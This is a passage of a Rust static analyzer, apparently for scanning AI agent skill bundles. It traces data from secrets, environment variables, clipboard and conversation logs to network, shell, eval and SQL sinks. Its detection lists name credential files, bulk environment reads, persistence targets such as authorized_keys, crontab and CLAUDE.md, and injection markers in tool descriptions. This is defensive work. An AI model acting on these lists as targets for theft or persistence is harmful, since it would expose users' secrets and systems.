//! Scripts as programs. Bundled Python and JavaScript/TypeScript (and fenced blocks of them in
//! a `SKILL.md`) are parsed with tree-sitter and data is followed through assignments, loop
//! variables and function returns, from sources (the environment, secret files, agents'
//! conversation logs, downloads, user input) to sinks (network calls, `eval`/`exec`, shells,
//! SQL, file opens). A secret sent to the host it belongs to, or used only in an
//! authentication header, is authentication, not exfiltration.

use std::cell::RefCell;
use std::collections::{HashMap, HashSet};

use tree_sitter::{Node, Parser};

use super::hosts;
use super::shell::node_text as text;
use super::{Category, Finding, Severity};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    Python,
    JavaScript,
    TypeScript,
}

impl Lang {
    pub fn of_path(path: &str) -> Option<Lang> {
        let l = path.to_ascii_lowercase();
        // A template of a script (`routes.py.tmpl`, `app.js.j2`) is that script.
        let l = [
            ".tmpl",
            ".template",
            ".tpl",
            ".j2",
            ".jinja",
            ".jinja2",
            ".hbs",
            ".mustache",
            ".ejs",
            ".example",
            ".sample",
            ".txt",
        ]
        .iter()
        .find_map(|s| l.strip_suffix(s))
        .filter(|rest| rest.contains('.'))
        .map_or(l.clone(), str::to_string);
        if l.ends_with(".py") || l.ends_with(".pyw") {
            Some(Lang::Python)
        } else if l.ends_with(".js")
            || l.ends_with(".mjs")
            || l.ends_with(".cjs")
            || l.ends_with(".jsx")
        {
            Some(Lang::JavaScript)
        } else if l.ends_with(".ts")
            || l.ends_with(".mts")
            || l.ends_with(".cts")
            || l.ends_with(".tsx")
        {
            Some(Lang::TypeScript)
        } else {
            None
        }
    }

    pub fn of_fence(lang: &str) -> Option<Lang> {
        match lang.trim().to_ascii_lowercase().as_str() {
            "python" | "py" | "python3" => Some(Lang::Python),
            "javascript" | "js" | "node" | "jsx" | "mjs" => Some(Lang::JavaScript),
            "typescript" | "ts" | "tsx" => Some(Lang::TypeScript),
            _ => None,
        }
    }
}

thread_local! {
    static PARSERS: RefCell<HashMap<u8, Parser>> = RefCell::new(HashMap::new());
}

fn parse(text: &str, lang: Lang) -> Option<tree_sitter::Tree> {
    PARSERS.with(|p| {
        let mut map = p.borrow_mut();
        let key = lang as u8;
        if let std::collections::hash_map::Entry::Vacant(e) = map.entry(key) {
            let mut parser = Parser::new();
            let l: tree_sitter::Language = match lang {
                Lang::Python => tree_sitter_python::LANGUAGE.into(),
                Lang::JavaScript => tree_sitter_javascript::LANGUAGE.into(),
                Lang::TypeScript => tree_sitter_typescript::LANGUAGE_TSX.into(),
            };
            parser.set_language(&l).ok()?;
            e.insert(parser);
        }
        map.get_mut(&key)?.parse(text, None)
    })
}

/// Where data came from.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
enum Label {
    /// The whole environment, or every variable whose name looks secret.
    EnvBulk,
    /// One named secret from the environment.
    Secret(String),
    /// A key, credential or env file, a browser store, an agent's conversation log.
    SecretFile,
    /// Bytes fetched from the network.
    Fetched,
    /// What a web request or a tool call passed in.
    Input,
    /// Command-line arguments.
    Arg,
    /// The conversation, a transcript, a session log.
    Conversation,
    /// The contents of local files, or an archive of the project or home folder.
    LocalFile,
    /// Text decoded from base64, hex, rot13 or a compressed blob: hidden from a reader.
    Decoded,
}

struct Assign<'t> {
    targets: Vec<String>,
    value: Node<'t>,
    /// The function it is in ("" at the top level): names are looked up there, then at
    /// the top level, so two functions' `data` are not one variable.
    func: String,
}

struct Call<'t> {
    callee: String,
    node: Node<'t>,
    func: String,
}

fn key(func: &str, name: &str) -> String {
    format!("{func}::{name}")
}

/// A name's labels as seen from inside `func`.
fn lookup<'a>(
    labels: &'a HashMap<String, HashSet<Label>>,
    func: &str,
    id: &str,
) -> impl Iterator<Item = &'a Label> {
    labels
        .get(&key(func, id))
        .into_iter()
        .chain(labels.get(&key("", id)))
        .chain(labels.get(&format!("{id}()")))
        .flatten()
}

#[derive(Default)]
struct Facts<'t> {
    assigns: Vec<Assign<'t>>,
    calls: Vec<Call<'t>>,
    /// Functions and what they return.
    returns: Vec<(String, Node<'t>)>,
    /// String constants by variable (`URL = "https://…"`).
    strings: HashMap<String, String>,
    /// Each function's parameters, in order, so a call passes its arguments' labels on.
    params: HashMap<String, Vec<String>>,
    /// Callbacks given to a call (`https.get(u, r => …)`, `r.on('data', c => …)`): the call's
    /// callee, the function it is in, and the callback's parameters, which take what the
    /// callee hands them.
    callbacks: Vec<(String, String, Vec<String>)>,
}

fn identifiers(n: Node, src: &str, out: &mut Vec<String>, depth: u32) {
    if depth > 60 || out.len() > 200 {
        return;
    }
    // The environment or headers handed to a call configure it; they are not in what it
    // returns (`subprocess.run(cmd, env=os.environ.copy())` is the command's output).
    if n.kind() == "keyword_argument"
        && n.child_by_field_name("name").is_some_and(|k| {
            matches!(
                text(k, src),
                "env" | "environ" | "headers" | "auth" | "cookies"
            )
        })
    {
        return;
    }
    // What a count, a truth test or a type check says of data is not the data.
    if matches!(n.kind(), "call" | "call_expression")
        && n.child_by_field_name("function").is_some_and(|f| {
            matches!(
                text(f, src),
                "len"
                    | "bool"
                    | "type"
                    | "isinstance"
                    | "hash"
                    | "id"
                    | "callable"
                    | "hasattr"
                    | "Boolean"
            )
        })
    {
        return;
    }
    match n.kind() {
        "identifier" | "shorthand_property_identifier" => out.push(text(n, src).to_string()),
        // `self.token`, `this.key`, `config.secret`: the whole path counts as one name too.
        "attribute" | "member_expression" => {
            out.push(text(n, src).to_string());
        }
        _ => {}
    }
    let mut c = n.walk();
    for child in n.named_children(&mut c) {
        identifiers(child, src, out, depth + 1);
    }
}

fn function_name<'t>(n: Node<'t>, src: &str) -> Option<String> {
    n.child_by_field_name("name")
        .map(|x| text(x, src).to_string())
}

fn gather<'t>(n: Node<'t>, src: &str, facts: &mut Facts<'t>, func: Option<&str>, depth: u32) {
    if depth > 400 || facts.calls.len() > 20_000 {
        return;
    }
    let kind = n.kind();
    let mut func_here = func.map(str::to_string);
    match kind {
        "assignment"
        | "augmented_assignment"
        | "assignment_expression"
        | "augmented_assignment_expression" => {
            assign(facts, n, "left", "right", src, func);
        }
        "variable_declarator" => {
            assign(facts, n, "name", "value", src, func);
        }
        "for_statement" | "for_in_statement" | "for_of_statement" | "comprehension"
        | "for_in_clause" => {
            let left = n.child_by_field_name("left");
            let right = n.child_by_field_name("right");
            if let (Some(l), Some(r)) = (left, right) {
                let mut t = Vec::new();
                identifiers(l, src, &mut t, 0);
                facts.assigns.push(Assign {
                    targets: t,
                    value: r,
                    func: func.unwrap_or("").to_string(),
                });
            }
        }
        "keyword_argument" | "pair" => {
            // `data=payload` handled at the call; nothing to record.
        }
        "with_item" => {
            // `with open(p) as f`: f takes what open() gives.
            if let Some(v) = n.child_by_field_name("value")
                && v.kind() == "as_pattern"
            {
                let mut t = Vec::new();
                if let Some(alias) = v.child_by_field_name("alias") {
                    identifiers(alias, src, &mut t, 0);
                }
                if let Some(inner) = v.named_child(0) {
                    facts.assigns.push(Assign {
                        targets: t,
                        value: inner,
                        func: func.unwrap_or("").to_string(),
                    });
                }
            }
        }
        "function_definition"
        | "function_declaration"
        | "method_definition"
        | "generator_function_declaration" => {
            func_here = function_name(n, src);
            if let (Some(f), Some(ps)) = (&func_here, n.child_by_field_name("parameters")) {
                let mut names = Vec::new();
                let mut c = ps.walk();
                for p in ps.named_children(&mut c) {
                    // `x`, `x=1`, `x: int`, `(x, y)` in JS: the first identifier of each.
                    let mut ids = Vec::new();
                    identifiers(p, src, &mut ids, 0);
                    if let Some(first) = ids.into_iter().next() {
                        names.push(first);
                    }
                }
                facts.params.insert(f.clone(), names);
            }
        }
        "return_statement" => {
            if let (Some(f), Some(v)) = (func, n.named_child(0)) {
                facts.returns.push((f.to_string(), v));
            }
        }
        "call" | "call_expression" | "new_expression" => {
            let callee = n
                .child_by_field_name("function")
                .or_else(|| n.child_by_field_name("constructor"))
                .map(|f| text(f, src).to_string())
                .unwrap_or_default();
            if let Some(args) = n.child_by_field_name("arguments") {
                let mut c = args.walk();
                for a in args.named_children(&mut c) {
                    if !matches!(
                        a.kind(),
                        "arrow_function" | "function_expression" | "function" | "lambda"
                    ) {
                        continue;
                    }
                    let mut names = Vec::new();
                    if let Some(p) = a
                        .child_by_field_name("parameters")
                        .or_else(|| a.child_by_field_name("parameter"))
                    {
                        identifiers(p, src, &mut names, 0);
                    }
                    if !names.is_empty() {
                        facts.callbacks.push((
                            callee.clone(),
                            func.unwrap_or("").to_string(),
                            names,
                        ));
                    }
                }
            }
            facts.calls.push(Call {
                callee,
                node: n,
                func: func.unwrap_or("").to_string(),
            });
        }
        _ => {}
    }
    let mut c = n.walk();
    for child in n.named_children(&mut c) {
        gather(child, src, facts, func_here.as_deref(), depth + 1);
    }
}

/// Records `left = right` (the fields as the grammar names them), and a string constant.
fn assign<'t>(
    facts: &mut Facts<'t>,
    n: Node<'t>,
    left: &str,
    right: &str,
    src: &str,
    func: Option<&str>,
) {
    let (Some(l), Some(r)) = (n.child_by_field_name(left), n.child_by_field_name(right)) else {
        return;
    };
    let mut t = Vec::new();
    identifiers(l, src, &mut t, 0);
    if let Some(s) = string_value(r, src) {
        for name in &t {
            facts.strings.insert(name.clone(), s.clone());
        }
    }
    facts.assigns.push(Assign {
        targets: t,
        value: r,
        func: func.unwrap_or("").to_string(),
    });
}

fn string_value(n: Node, src: &str) -> Option<String> {
    match n.kind() {
        "string" | "template_string" => Some(
            text(n, src)
                .trim_matches(|c| c == '"' || c == '\'' || c == '`')
                .to_string(),
        ),
        // `"https://" + "clip" + "-sync.io"`: a constant spelled in pieces.
        "binary_operator" | "binary_expression"
            if n.child_by_field_name("operator")
                .is_some_and(|o| text(o, src) == "+") =>
        {
            let l = string_value(n.child_by_field_name("left")?, src)?;
            let r = string_value(n.child_by_field_name("right")?, src)?;
            Some(l + &r)
        }
        "parenthesized_expression" => string_value(n.named_child(0)?, src),
        _ => None,
    }
}

/// Labels that an expression's own text carries (before following names).
fn own_labels(t: &str, lang: Lang) -> HashSet<Label> {
    let mut out = HashSet::new();
    let compact: String = t.chars().filter(|c| !c.is_whitespace()).collect();
    match lang {
        Lang::Python => {
            if compact.contains("os.environ.items()")
                || compact.contains("os.environ.copy()")
                || compact.contains("dict(os.environ)")
                || compact.contains("**os.environ")
                || compact.contains("os.environ.keys()")
                || compact.contains("os.environ.values()")
                || compact == "os.environ"
                || compact.contains("inos.environ")
                || compact.contains("environ.items()")
            {
                out.insert(Label::EnvBulk);
            }
            for key in [
                "os.environ[",
                "os.environ.get(",
                "os.getenv(",
                "environ.get(",
                "getenv(",
            ] {
                let mut rest = compact.as_str();
                while let Some(i) = rest.find(key) {
                    let after = &rest[i + key.len()..];
                    let name: String = after
                        .trim_start_matches(['"', '\''])
                        .chars()
                        .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                        .collect();
                    if hosts::secretish(&name) {
                        out.insert(Label::Secret(name));
                    }
                    rest = after;
                }
            }
            if [
                "requests.get(",
                "requests.request(",
                "urlopen(",
                "httpx.get(",
                "urlretrieve(",
                "session.get(",
                "client.get(",
            ]
            .iter()
            .any(|k| compact.contains(k))
            {
                out.insert(Label::Fetched);
            }
            if compact.contains("sys.argv")
                || compact.contains("parse_args(")
                || compact.contains("click.argument")
            {
                out.insert(Label::Arg);
            }
            if compact.starts_with("input(")
                || compact.contains("=input(")
                || compact.contains("(input(")
                || compact.contains("request.args")
                || compact.contains("request.form")
                || compact.contains("request.get_json")
                || compact.contains("parse_qs(")
                || compact.contains("self.path")
                || compact.contains("request.query_params")
            {
                out.insert(Label::Input);
            }
        }
        Lang::JavaScript | Lang::TypeScript => {
            if compact.contains("Object.entries(process.env)")
                || compact.contains("Object.keys(process.env)")
                || compact.contains("JSON.stringify(process.env")
                || compact.contains("...process.env")
                || compact == "process.env"
                || compact.contains("Deno.env.toObject()")
            {
                out.insert(Label::EnvBulk);
            }
            let mut rest = compact.as_str();
            while let Some(i) = rest.find("process.env") {
                let after =
                    rest[i + "process.env".len()..].trim_start_matches(['.', '[', '"', '\'']);
                let name: String = after
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
                    .collect();
                if hosts::secretish(&name) {
                    out.insert(Label::Secret(name));
                }
                rest = &rest[i + 1..];
            }
            if compact.contains("fetch(")
                || compact.contains("require('https').get(")
                || compact.contains("require(\"https\").get(")
                || compact.contains("require('http').get(")
                || compact.contains("axios.get(")
                || compact.contains("got(")
                || compact.contains("https.get(")
                || compact.contains("http.get(")
                || (compact.contains(".text()") && !compact.contains("file"))
            {
                out.insert(Label::Fetched);
            }
            if compact.contains("process.argv") {
                out.insert(Label::Arg);
            }
            if compact.contains("req.query")
                || compact.contains("req.body")
                || compact.contains("req.params")
                || compact.contains("request.query")
                || compact.contains("url.searchParams")
                || compact.contains("searchParams.get(")
            {
                out.insert(Label::Input);
            }
        }
    }
    {
        let u = compact.to_ascii_uppercase();
        if [
            "CONVERSATION",
            "TRANSCRIPT",
            "CHAT_HISTORY",
            "CHATHISTORY",
            "SESSION_LOG",
            "SESSIONLOG",
            // What is on the clipboard (passwords, keys) is as private.
            "PBPASTE",
            "GET-CLIPBOARD",
            "PYPERCLIP.PASTE",
            "CLIPBOARD.READ",
            "XCLIP",
            "XSEL",
        ]
        .iter()
        .any(|w| u.contains(w))
        {
            out.insert(Label::Conversation);
        }
    }
    if [
        "b64decode(",
        "fromhex(",
        "codecs.decode(",
        "zlib.decompress(",
        "marshal.loads(",
        "atob(",
        "'base64')",
        "\"base64\")",
        "a85decode(",
        "b32decode(",
    ]
    .iter()
    .any(|k| compact.contains(k))
    {
        out.insert(Label::Decoded);
    }
    // What git prints of the project: its changes, its history, its files.
    if (compact.contains("[\"git\",\"diff\"")
        || compact.contains("[\"git\",\"show\"")
        || compact.contains("[\"git\",\"archive\"")
        || compact.contains("'git','diff'")
        || compact.contains("execSync(\"gitdiff")
        || compact.contains("execSync('gitdiff"))
        && !compact.contains("--stat")
    {
        out.insert(Label::LocalFile);
    }
    if compact.contains(".read_bytes()")
        || compact.contains(".read_text()")
        || compact.contains("readFileSync(")
        || compact.contains("createReadStream(")
        || compact.contains("fs.readFile(")
        || (compact.contains("open(") && compact.contains(".read()"))
    {
        out.insert(Label::LocalFile);
    }
    // Secret files named in strings: `open(os.path.expanduser("~/.ssh/id_rsa"))`.
    let mut rest = t;
    while let Some(q) = rest.find(['"', '\'', '`']) {
        let quote = rest.as_bytes()[q] as char;
        let after = &rest[q + 1..];
        let end = after.find(quote).unwrap_or(after.len());
        let lit = &after[..end];
        // A regular expression naming secret paths looks for them (`r"\.ssh\b|\.aws\b"`).
        let pattern = ["|", "\\b", "(?", "\\s", "\\d", "\\w", "[^"]
            .iter()
            .any(|m| lit.contains(m));
        if lit.len() < 200
            && !pattern
            && (hosts::secret_path(lit) && !lit.ends_with(".example"))
            && (lit.contains('/')
                || lit.contains('\\')
                || lit.starts_with('.')
                || lit.contains('*'))
        {
            out.insert(Label::SecretFile);
        }
        rest = &after[(end + 1).min(after.len())..];
    }
    out
}

/// Callees that send data over the network.
fn network_sink(callee: &str) -> bool {
    let c = callee.replace(' ', "");
    let last = c.rsplit('.').next().unwrap_or(&c);
    c.starts_with("requests.") && matches!(last, "post" | "put" | "patch" | "get" | "request")
        || c.starts_with("httpx.") && matches!(last, "post" | "put" | "patch" | "get" | "request")
        || c.ends_with("urlopen")
        || c.ends_with("urllib.request.Request")
        || c == "Request"
        || (c.contains("session") || c.contains("client") || c.contains("Session"))
            && matches!(last, "post" | "put" | "patch")
        || matches!(
            last,
            "sendall"
                | "sendto"
                | "sendmail"
                | "send_message"
                | "sendBeacon"
                | "storbinary"
                | "upload_file"
                | "put_object"
        )
        || c == "fetch"
        || c.ends_with(".fetch")
        || c == "axios"
        || c.starts_with("axios.")
        || c == "got"
        || c.starts_with("got.")
        || c.ends_with("http.request")
        || c.ends_with("https.request")
        || c == "needle"
        || c.starts_with("superagent")
        || (last == "send"
            && (c.contains("socket")
                || c.contains("ws")
                || c.contains("sock")
                || c.contains("xhr")
                || c.contains("conn")))
        || ((last == "write" || last == "end") && (c.contains("req") || c.contains("socket")))
        || last == "request" && c.contains("http")
}

fn exec_sink(callee: &str, call_text: &str, lang: Lang) -> Option<&'static str> {
    let c = callee.replace(' ', "");
    let last = c.rsplit('.').next().unwrap_or(&c);
    match lang {
        Lang::Python => {
            if matches!(
                c.as_str(),
                "eval" | "exec" | "builtins.exec" | "builtins.eval"
            ) {
                return Some("code");
            }
            if c == "os.system" || c == "os.popen" || c.starts_with("commands.") {
                return Some("a shell");
            }
            let compact = call_text.replace(' ', "");
            if c.starts_with("subprocess.")
                && (compact.contains("shell=True")
                    || compact.contains("\"-c\"")
                    || compact.contains("'-c'"))
            {
                return Some("a shell");
            }
            None
        }
        _ => {
            if c == "eval"
                || c == "Function"
                || c == "newFunction"
                || c.starts_with("vm.runIn")
                || last == "runInNewContext"
                || last == "runInThisContext"
                || c == "vm.Script"
            {
                return Some("code");
            }
            if (c.starts_with("child_process.")
                || c.starts_with("cp.")
                || c == "exec"
                || c == "execSync")
                && (last == "exec" || last == "execSync")
            {
                return Some("a shell");
            }
            None
        }
    }
}

fn sql_sink(callee: &str) -> bool {
    let last = callee.rsplit('.').next().unwrap_or(callee);
    matches!(
        last,
        "execute" | "executemany" | "executescript" | "raw" | "query" | "$queryRawUnsafe" | "exec"
    )
}

fn open_sink(callee: &str) -> bool {
    matches!(
        callee,
        "open"
            | "io.open"
            | "send_file"
            | "send_from_directory"
            | "fs.readFileSync"
            | "fs.readFile"
            | "readFileSync"
            | "readFile"
            | "fs.createReadStream"
            | "fs.promises.readFile"
            | "Path"
            | "pathlib.Path"
    ) || callee.ends_with(".read_text")
        || callee.ends_with(".read_bytes")
}

/// The labels of every variable, to a fixed point over assignments and returns.
fn solve(facts: &Facts, src: &str, lang: Lang) -> HashMap<String, HashSet<Label>> {
    // What the skill's other files this one imports return (`from helpers import collect`).
    let mut labels: HashMap<String, HashSet<Label>> = IMPORTED.with(|i| i.borrow().0.clone());
    let own: Vec<(HashSet<Label>, Vec<String>)> = facts
        .assigns
        .iter()
        .map(|a| {
            // What a network call answers is fetched data; the key it authenticated with
            // does not come back with it.
            let mut v = a.value;
            while v.kind() == "await_expression" || v.kind() == "await" {
                match v.named_child(0) {
                    Some(inner) => v = inner,
                    None => break,
                }
            }
            if matches!(v.kind(), "call" | "call_expression") {
                let callee = v
                    .child_by_field_name("function")
                    .map(|f| text(f, src))
                    .unwrap_or("");
                if network_sink(callee) {
                    return (HashSet::from([Label::Fetched]), Vec::new());
                }
            }
            let mut ids = Vec::new();
            identifiers(a.value, src, &mut ids, 0);
            (own_labels(text(a.value, src), lang), ids)
        })
        .collect();
    let ret: Vec<(HashSet<Label>, Vec<String>)> = facts
        .returns
        .iter()
        .map(|(_, v)| {
            let mut ids = Vec::new();
            identifiers(*v, src, &mut ids, 0);
            (own_labels(text(*v, src), lang), ids)
        })
        .collect();
    for _ in 0..6 {
        let mut changed = false;
        let mut add =
            |labels: &mut HashMap<String, HashSet<Label>>, name: &str, set: &HashSet<Label>| {
                if set.is_empty() {
                    return;
                }
                let e = labels.entry(name.to_string()).or_default();
                for l in set {
                    if e.insert(l.clone()) {
                        changed = true;
                    }
                }
            };
        for (a, (own, ids)) in facts.assigns.iter().zip(&own) {
            let mut set = own.clone();
            for id in ids {
                // A name, or a call to a function that returns labelled data.
                set.extend(lookup(&labels, &a.func, id).cloned().collect::<Vec<_>>());
            }
            for t in &a.targets {
                add(&mut labels, &key(&a.func, t), &set);
            }
        }
        for ((f, _), (own, ids)) in facts.returns.iter().zip(&ret) {
            let mut set = own.clone();
            for id in ids {
                set.extend(lookup(&labels, f, id).cloned().collect::<Vec<_>>());
            }
            add(&mut labels, &format!("{f}()"), &set);
        }
        // A call to a function of this program hands its arguments' labels to its
        // parameters (`sync(clipboard)` labels `sync`'s `text`).
        for call in &facts.calls {
            let name = call.callee.rsplit('.').next().unwrap_or(&call.callee);
            let Some(params) = facts.params.get(name) else {
                continue;
            };
            let Some(args) = call.node.child_by_field_name("arguments") else {
                continue;
            };
            let mut c = args.walk();
            let positional: Vec<Node> = args
                .named_children(&mut c)
                .filter(|a| a.kind() != "keyword_argument" && a.kind() != "comment")
                .collect();
            // `self` takes no argument at a method call.
            let skip = usize::from(
                params.first().is_some_and(|p| p == "self" || p == "cls")
                    && call.callee.contains('.'),
            );
            for (arg, param) in positional.iter().zip(params.iter().skip(skip)) {
                let mut set = own_labels(text(*arg, src), lang);
                let mut ids = Vec::new();
                identifiers(*arg, src, &mut ids, 0);
                for id in ids {
                    set.extend(
                        lookup(&labels, &call.func, &id)
                            .cloned()
                            .collect::<Vec<_>>(),
                    );
                }
                add(&mut labels, &key(name, param), &set);
            }
        }
        // A callback's parameters take what its call hands over: a response, its chunks.
        for (callee, func, params) in &facts.callbacks {
            let mut set = own_labels(&format!("{callee}("), lang);
            let receiver = callee.rsplit_once('.').map_or("", |(r, _)| r);
            if is_name(receiver) {
                set.extend(lookup(&labels, func, receiver).cloned().collect::<Vec<_>>());
            }
            for p in params {
                add(&mut labels, &key(func, p), &set);
            }
        }
        // A container filled with labelled data holds it (`z.write(p)`, `parts.append(key)`),
        // and so does what it was opened on (`z = ZipFile(buf)`: the archive is written into
        // `buf`).
        for call in &facts.calls {
            let Some((obj, method)) = call.callee.rsplit_once('.') else {
                continue;
            };
            if !FILLERS.contains(&method) || !is_name(obj) {
                continue;
            }
            let Some(args) = call.node.child_by_field_name("arguments") else {
                continue;
            };
            let set = labels_of(args, src, lang, &labels, &call.func);
            if set.is_empty() {
                continue;
            }
            add(&mut labels, &key(&call.func, obj), &set);
            for a in &facts.assigns {
                if a.func != call.func || !a.targets.iter().any(|t| t == obj) {
                    continue;
                }
                if !matches!(a.value.kind(), "call" | "new_expression") {
                    continue;
                }
                if let Some(first) = a
                    .value
                    .child_by_field_name("arguments")
                    .and_then(|args| args.named_child(0))
                    .filter(|n| n.kind() == "identifier")
                {
                    add(&mut labels, &key(&a.func, text(first, src)), &set);
                }
            }
        }
        if !changed {
            break;
        }
    }
    labels
}

/// Methods that put their arguments into the object they are called on.
const FILLERS: &[&str] = &[
    "write",
    "writestr",
    "writelines",
    "add",
    "addfile",
    "append",
    "extend",
    "update",
    "insert",
    "put",
    "push",
    "set",
];

/// Whether `s` is a plain variable name (`z`, `self.buf`).
fn is_name(s: &str) -> bool {
    !s.is_empty()
        && s.split('.')
            .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'))
}

/// Labels of an argument node, following names.
fn labels_of(
    n: Node,
    src: &str,
    lang: Lang,
    labels: &HashMap<String, HashSet<Label>>,
    func: &str,
) -> HashSet<Label> {
    let mut set = own_labels(text(n, src), lang);
    let mut ids = Vec::new();
    identifiers(n, src, &mut ids, 0);
    for id in ids {
        set.extend(lookup(labels, func, &id).cloned().collect::<Vec<_>>());
    }
    set
}

/// A call's arguments, without authentication: `headers=`, `auth=`, a `headers:` property.
fn data_args<'t>(call: Node<'t>, src: &str) -> (Vec<Node<'t>>, Vec<Node<'t>>) {
    let mut data = Vec::new();
    let mut auth = Vec::new();
    let Some(args) = call.child_by_field_name("arguments") else {
        return (data, auth);
    };
    let mut c = args.walk();
    for a in args.named_children(&mut c) {
        match a.kind() {
            "keyword_argument" => {
                let name = a
                    .child_by_field_name("name")
                    .map(|n| text(n, src))
                    .unwrap_or("");
                let v = a.child_by_field_name("value").unwrap_or(a);
                // `params=` is the URL's query, where many APIs take their key.
                if matches!(
                    name,
                    "headers" | "auth" | "cookies" | "api_key" | "token" | "params"
                ) {
                    auth.push(v);
                } else {
                    data.push(v);
                }
            }
            "object" => {
                let mut oc = a.walk();
                for p in a.named_children(&mut oc) {
                    let key = p
                        .child_by_field_name("key")
                        .map(|k| text(k, src).trim_matches(['"', '\'']).to_ascii_lowercase())
                        .unwrap_or_default();
                    let v = p.child_by_field_name("value").unwrap_or(p);
                    if matches!(
                        key.as_str(),
                        "headers" | "auth" | "authorization" | "apikey" | "api_key"
                    ) {
                        auth.push(v);
                    } else {
                        data.push(v);
                    }
                }
            }
            _ => data.push(a),
        }
    }
    (data, auth)
}

/// The host a call sends to, from a URL literal or a variable holding one.
fn call_host(call: Node, src: &str, facts: &Facts) -> Option<String> {
    let t = text(call, src);
    if let Some((h, _)) = hosts::urls_in(t).into_iter().next() {
        return Some(h);
    }
    let mut ids = Vec::new();
    identifiers(call, src, &mut ids, 0);
    ids.iter()
        .filter_map(|id| facts.strings.get(id))
        .find_map(|s| hosts::urls_in(s).into_iter().next().map(|(h, _)| h))
}

// One call site per rule, each naming everything a finding shows.
#[allow(clippy::too_many_arguments)]
fn finding(
    path: &str,
    line0: u32,
    n: Node,
    src: &str,
    rule: &str,
    category: Category,
    severity: Severity,
    why: String,
) -> Finding {
    let row = n.start_position().row;
    let excerpt = super::clip(src.lines().nth(row).unwrap_or(""));
    Finding {
        rule: rule.into(),
        category,
        severity,
        file: path.into(),
        line: line0 + row as u32,
        excerpt,
        explanation: why,
        in_context: false,
    }
}

/// Judges one program; `line0` is the file line of its first line.
/// What a finding needs, as words: a source and a network or code-running sink; web input
/// and a file open or SQL; a secret and a serialiser; or one of the findings that stand
/// alone (persistence targets, raw sockets, fork loops, tool descriptions). A program
/// with none of these pairs is not parsed at all.
const SOURCES: &[&str] = &[
    "environ",
    "getenv",
    "process.env",
    "Deno.env",
    ".ssh",
    ".aws",
    ".env",
    "credential",
    "secret",
    "token",
    "password",
    "api_key",
    "apikey",
    "cookie",
    "keychain",
    "input(",
    "argv",
    "parse_args",
    "requests.get",
    "urlopen",
    "fetch(",
    "axios",
    "http.get",
    "https.get",
    "require('http",
    "require(\"http",
    "got(",
    "conversation",
    "pbpaste",
    "clipboard",
    "xclip",
    "transcript",
    "chat_history",
    "session_log",
    ".npmrc",
    ".netrc",
    "id_rsa",
    "read_bytes",
    "read_text",
    "readFileSync",
    "createReadStream",
];
const NET_OR_EXEC: &[&str] = &[
    "requests.",
    "httpx",
    "urlopen",
    "urllib",
    "http.client",
    "aiohttp",
    "fetch(",
    "axios",
    ".request(",
    "got(",
    "got.",
    "needle",
    "superagent",
    "XMLHttpRequest",
    "WebSocket",
    "sendBeacon",
    "smtplib",
    "ftplib",
    "boto3",
    "eval(",
    "exec(",
    "Function(",
    "vm.",
    "os.system",
    "popen",
    "subprocess",
    "child_process",
    "execSync",
    "sendall",
    ".end(",
];
const WEB_INPUT: &[&str] = &[
    "request.",
    "req.",
    "self.path",
    "parse_qs",
    "searchParams",
    "argv",
    "parse_args",
    "input(",
];
const FILE_OR_SQL: &[&str] = &[
    "open(",
    "readFile",
    "send_file",
    "createReadStream",
    "execute(",
    ".query(",
    ".raw(",
];
const SERIALISERS: &[&str] = &["dumps(", "b64encode", "stringify", "btoa", "hexlify"];
const LONERS: &[&str] = &[
    "authorized_keys",
    ".pth",
    "usersitepackages",
    "bashrc",
    "zshrc",
    "bash_profile",
    "crontab",
    ".git/hooks",
    "CLAUDE.md",
    "AGENTS.md",
    "LaunchAgents",
    "socket",
    "dup2",
    "fork(",
    "<IMPORTANT>",
    "this tool",
    "create_connection",
    "createConnection",
    "os.environ.items",
    "Object.entries(process.env",
    "server.tool",
    "mcp.tool",
    "@tool",
    "registerTool",
    "inputSchema",
    "Tool(",
];

fn automaton(words: &[&str]) -> aho_corasick::AhoCorasick {
    aho_corasick::AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(words)
        .expect("the trigger words build")
}

/// Whether the program can hold anything this analysis finds: one pass over it finds which
/// kinds of trigger words it holds, and stops as soon as the answer is known.
fn worth_parsing(src: &str) -> bool {
    const GROUPS: [&[&str]; 6] = [
        SOURCES,
        NET_OR_EXEC,
        WEB_INPUT,
        FILE_OR_SQL,
        SERIALISERS,
        LONERS,
    ];
    static A: std::sync::OnceLock<(aho_corasick::AhoCorasick, Vec<u8>)> =
        std::sync::OnceLock::new();
    let (ac, group_of) = A.get_or_init(|| {
        let words: Vec<&str> = GROUPS.iter().flat_map(|g| g.iter().copied()).collect();
        let group_of = GROUPS
            .iter()
            .enumerate()
            .flat_map(|(k, g)| std::iter::repeat_n(k as u8, g.len()))
            .collect();
        (automaton(&words), group_of)
    });
    let (sources, net, web, files, ser, loners) = (1u8, 2u8, 4u8, 8u8, 16u8, 32u8);
    let decided = |seen: u8| {
        seen & loners != 0
            || (seen & net != 0 && seen & sources != 0)
            || (seen & files != 0 && seen & web != 0)
            || (seen & ser != 0 && seen & sources != 0)
    };
    let mut seen = 0u8;
    for m in ac.find_overlapping_iter(src) {
        seen |= 1 << group_of[m.pattern().as_usize()];
        if decided(seen) {
            return true;
        }
    }
    false
}

/// What a program's functions return, as `name()`: the labels a file importing it sees.
#[derive(Default, Clone)]
pub struct Exports(HashMap<String, HashSet<Label>>);

impl Exports {
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    pub fn merge(&mut self, other: &Exports) {
        for (k, v) in &other.0 {
            self.0
                .entry(k.clone())
                .or_default()
                .extend(v.iter().cloned());
        }
    }
}

thread_local! {
    /// The exports of the modules the file being scanned imports (see [`with_imports`]).
    static IMPORTED: RefCell<Exports> = RefCell::new(Exports::default());
}

/// Runs `f` with `imports` seen as what the imported functions return.
pub fn with_imports<R>(imports: &Exports, f: impl FnOnce() -> R) -> R {
    IMPORTED.with(|i| *i.borrow_mut() = imports.clone());
    let r = f();
    IMPORTED.with(|i| *i.borrow_mut() = Exports::default());
    r
}

/// What the functions of `src` return, for the files that import it.
pub fn exports(src: &str, lang: Lang) -> Exports {
    if src.len() > 2_000_000 || !worth_parsing(src) {
        return Exports::default();
    }
    let Some(tree) = parse(src, lang) else {
        return Exports::default();
    };
    let mut facts = Facts::default();
